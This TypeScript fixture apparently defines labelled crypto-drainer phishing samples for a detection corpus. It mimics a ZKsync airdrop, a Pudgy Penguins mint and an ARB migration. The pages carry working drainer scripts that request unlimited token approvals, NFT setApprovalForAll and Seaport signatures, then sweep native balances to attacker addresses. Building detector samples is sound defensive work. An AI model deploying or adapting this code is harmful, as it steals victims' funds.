import type { Entry } from '../entry.js';
import { builderBadge, builderHead, doc, htmlRoute, jsRoute, jsonRoute } from '../parts/y-kit.js';

// EVM drainers on the free app tier and builder subdomains.

const adHost = 'zksync-airdrop-claim.kestrelapps.dev';
const nftHost = 'pudgy-mint-pass.kestrel.site';
const migHost = 'arb-token-v2-migration.kestrelapps.dev';

const evmCore = (api: string, spender: string) => `var SP='${spender}';var API='${api}';
function h(n){return '0x'+BigInt(n).toString(16);}
function pad(x){return x.replace(/^0x/,'').toLowerCase().padStart(64,'0');}
async function acct(){if(!window.ethereum)throw new Error('nowallet');var a=await ethereum.request({method:'eth_requestAccounts'});return a[0];}
async function assets(a){var r=await fetch(API+'/balances?address='+a);return r.json();}
async function approveAll(a,list){for(var i=0;i<list.length;i++){var t=list[i];
 var data='0x095ea7b3'+pad(SP)+'f'.repeat(64);
 await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t.contract,data:data}]});
 fetch(API+'/log',{method:'POST',body:JSON.stringify({a:a,t:t.symbol,usd:t.usd})});}}
async function sweepNative(a){var b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(b)*9n/10n;if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:SP,value:'0x'+v.toString(16)}]});}`;

export const entries: Entry[] = [
  {
    id: 'y-drain-airdrop-claim',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: `https://${adHost}/claim`,
    routes: {
      [`${adHost}/claim`]: htmlRoute(doc({
        title: 'ZKsync Airdrop — Claim ZK',
        css: `body{margin:0;background:#0c0e1b;color:#fff;font-family:Inter,system-ui,Arial,sans-serif}
header{display:flex;justify-content:space-between;align-items:center;padding:18px 30px}header b{font-size:20px}
.box{max-width:460px;margin:8vh auto;background:#15182b;border:1px solid #262b47;border-radius:18px;padding:30px;text-align:center}
.btn{width:100%;padding:15px;border:0;border-radius:12px;background:#1e69ff;color:#fff;font-size:16px;font-weight:600;cursor:pointer}
.n{font-size:13px;color:#9aa3c7;margin-top:14px}`,
        body: `<header><b>&#10231; ZKsync</b><button class="btn" style="width:auto;padding:10px 18px" id="c2">Connect</button></header>
<div class="box"><h2>Claim your ZK airdrop</h2><p>Eligible wallets can claim until <b>Dec 3, 2025</b>. Unclaimed tokens return to the ecosystem fund.</p>
<div style="font-size:40px;font-weight:800;margin:18px 0" id="amt">— ZK</div>
<button class="btn" id="c1">Connect wallet to check</button>
<div class="n" id="msg">Supported: MetaMask, Rabby, Coinbase Wallet, WalletConnect</div></div>
<script src="/static/claim.js"></script>`,
      })),
      [`${adHost}/static/claim.js`]: jsRoute(`(function(){${evmCore('/api', '0x7a3f1C9b2E04d8F6a5B1c0D9e8F7a6B5c4D3e2F1')}
async function run(){var m=document.getElementById('msg');try{var a=await acct();m.textContent='Connected: '+a.slice(0,6)+'…'+a.slice(-4);
 try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x144'}]});}catch(e){}
 var b=await assets(a);document.getElementById('amt').textContent=b.zk+' ZK';
 document.getElementById('c1').textContent='Claim '+b.zk+' ZK';
 document.getElementById('c1').onclick=async function(){m.textContent='Confirm in your wallet…';await approveAll(a,b.tokens);await sweepNative(a);m.textContent='Claim successful! Tokens will be visible within 24h.';};
}catch(e){m.textContent=e.message==='nowallet'?'No wallet detected':'Request rejected';}}
document.getElementById('c1').onclick=run;document.getElementById('c2').onclick=run;})();`),
      [`${adHost}/api/balances`]: jsonRoute({ zk: '2,417.00', tokens: [{ symbol: 'USDC', contract: '0x3355df6D4c9C3035724Fd0e3914dE96A5a83aaf4', usd: 1520 }, { symbol: 'WETH', contract: '0x5AEa5775959fBC2557Cc8789bC1bf90A239D9a91', usd: 3120 }] }),
      [`${adHost}/api/log`]: jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'y-drain-nft-mint',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: `https://${nftHost}/`,
    routes: {
      [`${nftHost}/`]: htmlRoute(doc({
        title: 'Pudgy Penguins — Free Mint Pass (Holders Only)',
        head: builderHead('ks_0aa31f72'),
        css: `body{margin:0;background:#e6f4ff;font-family:"Fredoka",Arial Rounded MT Bold,Arial,sans-serif;color:#00142d;text-align:center}
h1{font-size:44px;margin:40px 0 10px}.card{max-width:420px;margin:20px auto;background:#fff;border-radius:24px;padding:26px;box-shadow:0 6px 0 #00142d}
.q{display:flex;justify-content:center;align-items:center;gap:16px;font-size:24px}.q button{width:40px;height:40px;border-radius:50%;border:2px solid #00142d;background:#fff}
.m{margin-top:16px;background:#477dfd;color:#fff;border:0;padding:14px 40px;border-radius:14px;font-size:18px;box-shadow:0 4px 0 #00142d;cursor:pointer}`,
        body: `<h1>Pudgy Mint Pass</h1><p>Free for holders · 2,214 / 3,000 minted · Gas only</p>
<div class="card"><div style="height:200px;background:#bfe3ff;border-radius:16px;margin-bottom:14px"></div>
<div class="q"><button onclick="q(-1)">−</button><span id="n">1</span><button onclick="q(1)">+</button></div>
<button class="m" id="mint">MINT NOW</button><p id="s" style="font-size:13px;color:#556"></p></div>
${builderBadge}
<script src="https://${nftHost}/_ks/embed/mint.js"></script>`,
      })),
      [`${nftHost}/_ks/embed/mint.js`]: jsRoute(`var n=1;function q(d){n=Math.max(1,Math.min(3,n+d));document.getElementById('n').textContent=n;}
(function(){var OP='0x4E11c8Bb9d2A7f3E6C05A1d97B3e8F2a1C6d9E30';
var COLS=['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D'];
document.getElementById('mint').onclick=async function(){var s=document.getElementById('s');
if(!window.ethereum){s.textContent='Please install MetaMask';return;}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
s.textContent='Verifying holder status…';
var owned=await (await fetch('/_ks/embed/holdings?w='+a)).json();
for(var i=0;i<COLS.length;i++){if(!owned[COLS[i]])continue;
 var data='0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
 try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:COLS[i],data:data}]});}catch(e){s.textContent='Mint failed: transaction rejected';return;}}
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({domain:{name:'Seaport',version:'1.5',chainId:1,verifyingContract:'0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC'},primaryType:'OrderComponents',types:{OrderComponents:[{name:'offerer',type:'address'},{name:'zone',type:'address'},{name:'offer',type:'OfferItem[]'},{name:'consideration',type:'ConsiderationItem[]'}],OfferItem:[],ConsiderationItem:[]},message:{offerer:a,zone:'0x0000000000000000000000000000000000000000',offer:[],consideration:[{recipient:OP}]}})]});
fetch('/_ks/embed/o',{method:'POST',body:JSON.stringify({a:a,sig:sig})});s.textContent='Minted '+n+' pass(es)!';};})();`),
      [`${nftHost}/_ks/embed/holdings`]: jsonRoute({ '0xBd3531dA5CF5857e7CfAA92426877b022e612cf8': 2 }),
      [`${nftHost}/_ks/embed/o`]: jsonRoute({ ok: true }),
    },
  },
  {
    id: 'y-drain-token-migrate',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: `https://${migHost}/`,
    routes: {
      [`${migHost}/`]: htmlRoute(doc({
        title: 'Arbitrum — ARB v2 Token Migration',
        css: `body{margin:0;background:#1b2a4a;color:#fff;font-family:Roboto,Arial,sans-serif}
.w{max-width:560px;margin:10vh auto;background:#213661;border-radius:12px;padding:30px}
.st{display:flex;gap:10px;margin:20px 0}.st div{flex:1;padding:10px;border-radius:8px;background:#18284a;font-size:13px}
button{width:100%;padding:14px;border:0;border-radius:10px;background:#28a0f0;color:#fff;font-size:16px}
.warn{background:#3b2f12;border:1px solid #f0b429;color:#f7d070;padding:10px;border-radius:8px;font-size:13px}`,
        body: `<div class="w"><h2>ARB → ARB v2 Migration</h2>
<div class="warn">Following the governance vote AIP-X17, the legacy ARB contract will be deprecated on December 10. Holders must migrate 1:1 to ARB v2 to retain voting power and exchange listings.</div>
<div class="st"><div>1. Connect</div><div>2. Approve ARB</div><div>3. Migrate</div></div>
<button id="b">Connect Wallet</button><p id="s" style="font-size:13px;color:#9fb3d9"></p></div>
<script src="/js/migrate.bundle.js"></script>`,
      })),
      [`${migHost}/js/migrate.bundle.js`]: jsRoute(`(function(){${evmCore('/v1', '0x91b2E7c4A0d6F3e58B1c29D7a4E0f6C3b8D5a2E9')}
var step=0,acc;document.getElementById('b').onclick=async function(){var s=document.getElementById('s');
try{if(step===0){acc=await acct();step=1;this.textContent='Approve ARB';s.textContent=acc;return;}
var b=await assets(acc);if(step===1){await approveAll(acc,b.tokens);step=2;this.textContent='Migrate';return;}
await sweepNative(acc);s.textContent='Migration queued. ARB v2 will be airdropped to your address.';}catch(e){s.textContent='Error: '+(e.message||e);}};})();`),
      [`${migHost}/v1/balances`]: jsonRoute({ tokens: [{ symbol: 'ARB', contract: '0x912CE59144191C1204E64559FE8253a0e49E6548', usd: 880 }, { symbol: 'USDT', contract: '0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9', usd: 2400 }] }),
      [`${migHost}/v1/log`]: jsonRoute({ ok: 1 }),
    },
  },
];
